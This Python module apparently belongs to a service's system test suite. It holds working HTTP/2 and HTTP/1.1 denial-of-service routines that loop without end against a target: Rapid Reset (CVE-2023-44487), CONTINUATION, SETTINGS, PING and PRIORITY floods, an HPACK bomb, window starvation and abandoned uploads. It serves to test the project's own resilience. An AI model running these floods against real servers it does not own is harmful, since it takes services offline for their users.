"""Attackers in a hurry: each function is the life of one connection."""

import struct

from tests.system.attacks.wire import (
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    PING,
    PRIORITY,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    Http2,
    Line,
    Target,
    block,
    frame,
)

AT_ONCE = 100
WINDOWED = 50  # answers that wait for a window


async def rapid_reset(target: Target) -> None:
    """Requests that are taken back at once (CVE-2023-44487)."""
    async with Http2(target) as line:
        while True:
            taken_back = b""
            for _ in range(AT_ONCE):
                taken_back += line.request("POST", "/ocr", end=False)
                taken_back += frame(RST_STREAM, 0, line.last, struct.pack(">I", 8))
            await line.send(taken_back, AT_ONCE)


async def made_to_reset(target: Target) -> None:
    """Requests with an error behind each, which the service has to reset (CVE-2025-8671)."""
    async with Http2(target) as line:
        while True:
            wrong = b""
            for _ in range(AT_ONCE):
                wrong += line.request("POST", "/ocr", end=False)
                wrong += frame(WINDOW_UPDATE, 0, line.last, struct.pack(">I", 2**31 - 1))
            await line.send(wrong, AT_ONCE)


async def continuation(target: Target) -> None:
    """A head that never ends, in CONTINUATIONs as large as they may be."""
    async with Http2(target) as line:
        field = b"\x00\x01a\x7f\x80\x7f" + b"a" * 16_255  # a literal of that length, not indexed
        await line.send(frame(HEADERS, 0, 1, field))
        while True:
            await line.send(frame(CONTINUATION, 0, 1, field))


async def empty_continuation(target: Target) -> None:
    """A head that never ends, in CONTINUATIONs of nothing."""
    async with Http2(target) as line:
        await line.send(frame(HEADERS, 0, 1))
        while True:
            await line.send(frame(CONTINUATION, 0, 1) * AT_ONCE, AT_ONCE)


async def settings(target: Target) -> None:
    """SETTINGS, each of which wants an answer (CVE-2019-9515)."""
    async with Http2(target) as line:
        while True:
            await line.send(frame(SETTINGS, payload=struct.pack(">HI", 3, 7)) * 1000, 1000)


async def window_settings(target: Target) -> None:
    """SETTINGS that change the window of many answers that wait for one."""
    async with Http2(target, window=0) as line:
        await line.send(b"".join(line.request("GET", "/healthz") for _ in range(WINDOWED)))
        both = b"".join(frame(SETTINGS, payload=struct.pack(">HI", 4, size)) for size in (1, 0))
        while True:
            await line.send(both * 500, 1000)


async def ping(target: Target) -> None:
    """PINGs, each of which wants an answer (CVE-2019-9512)."""
    async with Http2(target) as line:
        while True:
            await line.send(frame(PING, payload=bytes(8)) * 1000, 1000)


async def hpack_bomb(target: Target) -> None:
    """A large field kept in the table, then named five thousand times."""
    async with Http2(target) as line:
        large = "a" * 3800
        await line.send(line.request("GET", "/healthz", x=large))
        named = line.encoder.encode({"x": large}.items())
        while True:
            head = block(line.encoder, target, "GET", "/healthz")
            for times in (3, 5000):
                await line.send(
                    frame(HEADERS, END_HEADERS | END_STREAM, line.stream(), head + times * named)
                )


async def many_fields(target: Target) -> None:
    """Requests with as many fields as a head may have, a byte each."""
    async with Http2(target) as line:
        await line.send(line.request("GET", "/healthz", a="b"))
        named = line.encoder.encode({"a": "b"}.items())
        while True:
            head = block(line.encoder, target, "GET", "/healthz") + 450 * named
            await line.send(frame(HEADERS, END_HEADERS | END_STREAM, line.stream(), head))


async def priority(target: Target) -> None:
    """PRIORITY frames that weave streams which do not exist into trees (CVE-2019-9513)."""
    async with Http2(target) as line:
        number = 1
        while True:
            woven = b""
            for _ in range(1000):
                number += 2
                woven += frame(PRIORITY, 0, number, struct.pack(">IB", 1 << 31 | number - 2, 255))
            await line.send(woven, 1000)


async def reprioritise(target: Target) -> None:
    """PRIORITY frames that turn a long tree of streams over and over."""
    async with Http2(target) as line:
        chain = [frame(PRIORITY, 0, n, struct.pack(">IB", n - 2, 1)) for n in range(3, 1500, 2)]
        await line.send(b"".join(chain), len(chain))
        turn = frame(PRIORITY, 0, 3, struct.pack(">IB", 1499, 1))
        back = frame(PRIORITY, 0, 1499, struct.pack(">IB", 1 << 31 | 3, 1))
        while True:
            await line.send((turn + back) * 500, 1000)


async def window_update(target: Target) -> None:
    """WINDOW_UPDATEs of a byte, while many answers wait for a window of their own."""
    async with Http2(target, window=0) as line:
        await line.send(b"".join(line.request("GET", "/healthz") for _ in range(WINDOWED)))
        while True:
            await line.send(frame(WINDOW_UPDATE, payload=struct.pack(">I", 1)) * 1000, 1000)


async def empty_data(target: Target) -> None:
    """Frames of body with nothing in them (CVE-2019-9518)."""
    async with Http2(target) as line:
        await line.send(line.request("POST", "/ocr", end=False))
        while True:
            await line.send(frame(DATA, 0, line.last) * 1000, 1000)


async def early_close(target: Target) -> None:
    """HTTP/2: uploads whose client leaves in the middle of them."""
    more = {"content-type": "image/png", "content-length": "4000000"}
    async with Http2(target) as line:
        for _ in range(10):
            await line.send(line.request("POST", "/ocr", end=False, **more))
            await line.send(frame(DATA, 0, line.last, bytes(6000)))


async def early_close_http1(target: Target) -> None:
    """HTTP/1.1: the same."""
    async with Line(target, "http/1.1") as line:
        fields = ["POST /ocr HTTP/1.1", "host: localhost", "content-type: image/png"]
        fields += ["content-length: 4000000", f"x-api-key: {target.key}"]
        await line.send("\r\n".join([*fields, "", ""]).encode() + bytes(60_000))


async def handshake(target: Target) -> None:
    """TLS: a handshake, and goodbye."""
    async with Line(target, "h2"):
        pass
